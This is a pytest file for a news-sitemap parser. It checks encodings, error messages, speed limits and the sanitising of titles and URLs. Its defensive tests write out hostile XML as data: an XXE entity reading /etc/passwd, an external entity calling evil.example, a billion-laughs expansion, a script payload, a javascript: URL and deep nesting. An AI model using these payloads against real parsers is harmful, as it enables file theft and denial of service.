"""News sitemaps: what is read from them, and what they may not do."""

from __future__ import annotations

import time
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from db.shapes import DateQuality, Failure, ParsedFeed, Source
from scraper.clean import to_drafts
from scraper.parsing.documents import parse_document
from scraper.parsing.errors import ParseError
from scraper.parsing.sitemaps import read_index
from tests.data import news_sitemap

NOW = datetime(2026, 11, 25, 12, tzinfo=UTC)
SITEMAP = (Path(__file__).parents[2] / "data" / "news-sitemap.xml").read_bytes()
SOURCE = Source(
    "post", "The Stagehands' Post", "https://stagehands.example/", news_sitemap.URL, "union", "stage", "GB", "en",
    format="sitemap",
)  # fmt: skip
NEWS = "http://www.google.com/schemas/sitemap-news/0.9"


def read(body: bytes | str, content_type: str = "application/xml") -> ParsedFeed:
    data = body.encode() if isinstance(body, str) else body
    return parse_document(data, content_type, SOURCE.feed_url, SOURCE)


def urlset(*urls: str, doctype: str = "", namespace: str = f'xmlns:news="{NEWS}"') -> str:
    return f"{doctype}<urlset {namespace}>{''.join(urls)}</urlset>"


def article(title: str = "Strike", loc: str = "https://stagehands.example/1", date: str = "2026-11-24") -> str:
    return (
        f"<url><loc>{loc}</loc><news:news><news:publication_date>{date}</news:publication_date>"
        f"<news:title>{title}</news:title></news:news></url>"
    )


def failure_of(body: bytes | str) -> ParseError:
    with pytest.raises(ParseError) as raised:
        read(body)
    return raised.value


def test_a_news_sitemap_becomes_the_entries_beside_it():
    sitemap = read(SITEMAP)
    assert (sitemap.format, sitemap.title, sitemap.language) == ("sitemap", news_sitemap.TITLE, news_sitemap.LANGUAGE)
    assert sitemap.entries == news_sitemap.ENTRIES


def test_a_title_is_text_and_never_markup():
    drafts = to_drafts(read(SITEMAP), SOURCE, NOW)
    assert [draft.title for draft in drafts] == ["Stagehands strike at the Grand & the Lyric", "Vote <2>: oui"]


def test_an_article_without_a_date_is_dated_when_first_seen():
    (draft,) = to_drafts(read(urlset(article(date="soon"))), SOURCE, NOW)
    assert (draft.published_at, draft.date_quality) == (NOW, DateQuality.MISSING)


@pytest.mark.parametrize(
    "body",
    [
        urlset(article(), namespace=""),  # the prefix is not declared
        urlset(article()).replace("news:", "n:"),
        urlset(article("Strike&nbsp;& more").replace("Strike&nbsp;& more", "Strike")),
        "\ufeff\n" + urlset(article()),
        urlset(article()).replace("<urlset", '<?xml version="1.0" encoding="latin-1"?><urlset'),
    ],
)
def test_sitemaps_as_they_are_written_are_read(body):
    assert [entry.title for entry in read(body).entries] == ["Strike"]


def test_a_bare_ampersand_costs_nothing():
    (draft,) = to_drafts(read(urlset(article("Q&A: actors &eacute;lus", "https://s.example/?a=1&b=2"))), SOURCE, NOW)
    assert (draft.title, draft.url) == ("Q&A: actors élus", "https://s.example/?a=1&b=2")


def test_a_sitemap_in_latin_1_is_read_as_it_says():
    body = '<?xml version="1.0" encoding="iso-8859-1"?>' + urlset(article("Grève"))
    assert read(body.encode("latin-1")).entries[0].title == "Grève"


def test_a_news_sitemap_without_news_is_an_honest_answer():
    assert read(urlset()).entries == ()


def test_a_news_sitemap_whose_news_is_old_is_an_honest_answer():
    assert read(urlset("<url><loc>https://stagehands.example/old</loc></url>")).entries == ()


@pytest.mark.parametrize(
    ("body", "reason", "detail"),
    [
        (b"", Failure.EMPTY, "the document is empty"),
        (urlset(namespace=""), Failure.EMPTY, "a sitemap of 0 addresses without news elements"),
        (
            urlset("<url><loc>https://a.example/</loc></url>", namespace=""),
            Failure.NOT_A_FEED,
            "a sitemap of 1 addresses without news elements",
        ),
        ("<!doctype html><title>404</title>", Failure.HTML_NOT_FEED, "an HTML page, not a sitemap"),
        ("<rss version='2.0'><channel/></rss>", Failure.NOT_A_FEED, "the document is <rss>, not a sitemap"),
        (
            "<sitemapindex><sitemap><loc>/news.xml</loc></sitemap></sitemapindex>",
            Failure.NOT_A_FEED,
            "an index of sitemaps; feed_url must name one of them, such as https://stagehands.example/news.xml",
        ),
    ],
)
def test_what_is_no_news_sitemap_is_named(body, reason, detail):
    error = failure_of(body)
    assert (error.reason, error.detail) == (reason, detail)


@pytest.mark.parametrize("body", ["neither", "<urlset><url>", '{"a": 1}', "<urlset></url>"])
def test_what_is_not_well_formed_is_named(body):
    assert failure_of(body).reason is Failure.PARSE_FAILED


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE urlset [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE urlset [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE urlset [<!ENTITY % a SYSTEM "https://evil.example/x"> %a;]>',
    ],
)
def test_entities_are_refused(doctype):
    error = failure_of(urlset(article("&a;"), doctype=doctype))
    assert (error.reason, error.detail) == (
        Failure.PARSE_FAILED,
        "the document declares entities, which no sitemap needs",
    )


def test_of_100000_articles_the_newest_1000_are_read_in_time():
    body = urlset(
        *(article(f"Title {n}", f"https://a.example/{n}", f"2026-11-{1 + n % 24:02}") for n in range(100_000))
    )
    started = time.process_time()
    entries = read(body).entries
    assert time.process_time() - started < 10
    assert len(entries) == 1_000
    assert {entry.published for entry in entries} == {datetime(2026, 11, 24, tzinfo=UTC)}


def test_depth_harms_nobody():
    assert read(urlset("<a>" * 100_000 + "</a>" * 100_000, article())).entries[0].title == "Strike"


def test_a_script_in_a_title_is_not_kept():
    drafts = to_drafts(read(urlset(article("<![CDATA[<script>alert(1)</script>Strike]]>"))), SOURCE, NOW)
    assert [draft.title for draft in drafts] == ["Strike"]


def test_an_article_without_an_address_of_its_own_leads_home():
    (draft,) = to_drafts(read(urlset(article(loc="javascript:0"))), replace(SOURCE, homepage="https://h.example/"), NOW)
    assert draft.url == "https://h.example/"


def test_an_index_tells_its_sitemaps():
    body = b"<sitemapindex><sitemap><loc>/a.xml</loc></sitemap><sitemap><loc>ftp://b/</loc></sitemap></sitemapindex>"
    assert read_index(body, "", "https://a.example/sitemap.xml") == ("https://a.example/a.xml",)
    assert read_index(SITEMAP, "", "https://a.example/sitemap.xml") == ()
